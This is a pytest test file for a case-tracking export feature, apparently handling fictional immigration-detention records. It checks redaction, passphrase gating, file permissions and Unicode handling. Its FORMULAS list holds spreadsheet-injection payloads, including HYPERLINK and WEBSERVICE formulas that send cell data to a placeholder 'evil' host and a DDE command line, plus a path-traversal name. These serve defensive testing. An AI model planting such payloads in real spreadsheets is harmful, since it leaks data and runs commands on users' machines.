"""The committee's tracking table as CSV and XLSX: redacted by default, inert, private.

SECURITY.md 10.3, CSV-1 to CSV-7, on the table ``ddkit cases export`` writes. Every person
here is fictional.
"""

from __future__ import annotations

import zipfile
from datetime import date

import pandas as pd
import pytest

from ddkit.i18n import t
from ddkit.store import BadSetting, NoPassphrase, WrongPassphrase
from ddkit.store.exports import FULL, REDACTED, export_cases, export_path, tracking_table
from tests.test_store import PASSPHRASE, fictional_case, open_test_store

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil/?d="&A2,"x")',
    '=WEBSERVICE("https://evil/"&B2)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]
DAY = date(2026, 12, 1)


@pytest.fixture
def store(tmp_path, monkeypatch):
    for name in ("DDKIT_PASSPHRASE", "DDKIT_KEY_FILE", "DDKIT_RETENTION_DAYS"):
        monkeypatch.delenv(name, raising=False)
    with open_test_store(tmp_path / "store.db") as opened:
        yield opened


def read_csv(path) -> pd.DataFrame:
    return pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)


def sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def header(key: str, lang: str = "en") -> str:
    return t(key, lang)


# ------------------------------------------------------------------ redacted by default


def test_the_default_export_names_nobody(store):
    case = fictional_case(1, attorney__name="Abogado Ficticio")
    store.save(case)
    for fmt in ("csv", "xlsx"):
        path = export_cases(store, fmt=fmt, on=DAY)
        text = path.read_bytes().decode("utf-8", "replace")
        if fmt == "xlsx":
            text = "".join(
                zipfile.ZipFile(path).read(n).decode() for n in zipfile.ZipFile(path).namelist()
            )
        p = case.person
        for secret in (p.name, p.a_number, p.a_number[1:], "1981-02-11", p.address, p.phone,
                       p.email, p.aliases[0], case.custody.facility, "Invented misdemeanor",
                       case.story, "Abogado Ficticio"):  # fmt: skip
            assert secret not in text, (fmt, secret)
    frame = read_csv(export_cases(store, on=DAY))
    assert list(frame.columns) == [header(key) for key, _ in REDACTED]
    row = frame.iloc[0]
    assert row[header("field.custody.detained.label")] == "yes"
    assert row[header("field.proceedings.next_hearing.label")] == "2026-12-08"
    assert row[header("store.column.has_attorney")] == "yes"


def test_a_full_export_needs_the_passphrase_again(store):
    store.save(fictional_case(1))
    folder = store.path.parent / "out"
    with pytest.raises(NoPassphrase):
        export_cases(store, folder, full=True)
    with pytest.raises(WrongPassphrase):
        export_cases(store, folder, full=True, passphrase="not the right passphrase")
    assert not folder.exists()  # nothing written before the passphrase is checked
    path = export_cases(store, folder, full=True, passphrase=PASSPHRASE, on=DAY)
    frame = read_csv(path)
    assert list(frame.columns) == [header(k) for k, _ in REDACTED + FULL]
    assert frame.iloc[0][header("field.person.a_number.label")] == "A987650001"
    assert (
        frame.iloc[0][header("store.column.criminal_history")] == "Invented misdemeanor (dismissed)"
    )
    assert [a for _, _, a in store.audit_log()][-1] == "export_full"


def test_headers_and_values_follow_the_language(store):
    store.save(fictional_case(1))
    frame = read_csv(export_cases(store, lang="es", on=DAY))
    assert header("store.column.id", "es") in frame.columns
    assert frame.iloc[0][header("field.proceedings.stage.label", "es")] == t(
        "choice.stage.in_proceedings", "es"
    )
    assert frame.iloc[0][header("field.custody.detained.label", "es")] == "sí"


# ------------------------------------------------------------------ CSV-1 to CSV-5


def test_formulas_in_every_exported_text_field_stay_text(store):  # CSV-1
    for n, payload in enumerate(FORMULAS):
        store.save(
            fictional_case(
                n,
                person__name=payload + " (fictional)" if payload.strip() else "x",
                person__languages=[payload],
                person__address=payload,
                custody__facility=payload,
                story=payload,
            )
        )
    csv_path = export_cases(store, full=True, passphrase=PASSPHRASE, on=DAY)
    frame = read_csv(csv_path)
    for key in (
        "field.person.name.label",
        "field.person.languages.label",
        "field.person.address.label",
        "field.custody.facility.label",
        "field.story.label",
    ):
        values = list(frame[header(key)])
        assert len(values) == len(FORMULAS)
        assert all(value.startswith("'") for value in values), (key, values)
    xlsx_path = export_cases(store, fmt="xlsx", full=True, passphrase=PASSPHRASE, on=DAY)
    assert "<f>" not in sheet_xml(xlsx_path) and "<f " not in sheet_xml(xlsx_path)


def test_the_headers_are_the_catalogs_and_inert(store):  # CSV-2
    store.save(fictional_case(1))
    frame = read_csv(export_cases(store, full=True, passphrase=PASSPHRASE, on=DAY))
    for column in frame.columns:
        assert not column.startswith(("=", "+", "-", "@")), column


def test_line_breaks_and_quotes_never_split_a_row(store):  # CSV-3
    for n, story in enumerate(["a\rb", "x\ny", 'say "hi"', "a\r\nb"]):
        store.save(fictional_case(n, story=story, person__address=story))
    frame = read_csv(export_cases(store, full=True, passphrase=PASSPHRASE, on=DAY))
    assert len(frame) == 4
    assert sorted(frame[header("field.story.label")]) == sorted(
        ["a\nb", "x\ny", 'say "hi"', "a\nb"]
    )


def test_a_link_in_a_field_is_not_a_live_link(store):  # CSV-4
    store.save(fictional_case(1, person__languages=["https://evil/x"], story="https://evil/x"))
    path = export_cases(store, fmt="xlsx", full=True, passphrase=PASSPHRASE, on=DAY)
    with zipfile.ZipFile(path) as z:
        everything = "".join(z.read(n).decode() for n in z.namelist() if n.endswith(".xml"))
    assert "<hyperlink" not in everything
    assert "https://evil/x" in everything  # shown as text


def test_counts_stay_numbers(store):  # CSV-5
    for n in range(3):
        store.save(fictional_case(n, equities__us_citizen_children=n + 1))
    column = header("field.equities.us_citizen_children.label")
    csv_back = pd.read_csv(export_cases(store, on=DAY), encoding="utf-8-sig")
    assert csv_back[column].dtype.kind == "i" and sorted(csv_back[column]) == [1, 2, 3]
    xlsx_back = pd.read_excel(export_cases(store, fmt="xlsx", on=DAY))
    assert xlsx_back[column].dtype.kind == "i"
    assert tracking_table(store)[column].dtype == "int64"


# ------------------------------------------------------------------ CSV-6 and CSV-7


def test_exports_are_private_named_by_date_and_never_overwritten(store, tmp_path):  # CSV-6
    store.save(fictional_case(1, person__name="../../.bashrc"))
    first = export_cases(store, on=DAY)
    second = export_cases(store, on=DAY)
    assert first.parent == tmp_path / "ddkit-data" / "exports"  # inside the data folder
    assert (first.name, second.name) == ("cases-2026-12-01.csv", "cases-2026-12-01-2.csv")
    for path in (first, second, export_cases(store, fmt="xlsx", on=DAY)):
        assert path.stat().st_mode & 0o777 == 0o600
        assert "bashrc" not in path.name
    assert first.parent.stat().st_mode & 0o777 == 0o700


def test_the_output_may_be_a_folder_or_a_file(tmp_path):
    assert export_path(tmp_path, "xlsx", DAY) == tmp_path / "cases-2026-12-01.xlsx"
    made = export_path(tmp_path / "new-folder", "csv", DAY)
    assert made.parent.is_dir() and made.parent.stat().st_mode & 0o777 == 0o700
    assert export_path(tmp_path / "mine.csv", "csv", DAY) == tmp_path / "mine.csv"
    with pytest.raises(BadSetting):
        export_path(tmp_path / "missing" / "mine.csv", "csv", DAY)


def test_the_format_follows_the_file_ending(store, tmp_path):
    store.save(fictional_case(1))
    path = export_cases(store, tmp_path / "table.xlsx")
    assert zipfile.is_zipfile(path)
    with pytest.raises(BadSetting):
        export_cases(store, tmp_path, fmt="ods")


def test_names_in_any_script_survive_for_excel(store):  # CSV-7
    names = ["María José Núñez", "محمد عبد الله", "王小明", "Nguyễn Thị Ánh"]
    for n, name in enumerate(names):
        store.save(fictional_case(n, person__name=name + " (fictional)"))
    path = export_cases(store, full=True, passphrase=PASSPHRASE, on=DAY)
    assert path.read_bytes().startswith("\ufeff".encode())  # the BOM Excel needs
    back = read_csv(path)[header("field.person.name.label")]
    assert sorted(back) == sorted(name + " (fictional)" for name in names)


def test_an_empty_store_exports_only_the_headers(store):
    frame = read_csv(export_cases(store, on=DAY))
    assert len(frame) == 0 and len(frame.columns) == len(REDACTED)


def test_the_demo_store_exports_its_practice_cases(tmp_path):
    from ddkit.store import open_store

    demo = open_store(demo=True)
    demo.save(fictional_case(1))
    frame = read_csv(export_cases(demo, tmp_path, full=True, on=DAY))
    assert frame.iloc[0][header("field.person.name.label")] == "Lucía Inventada Nº1 (fictional)"
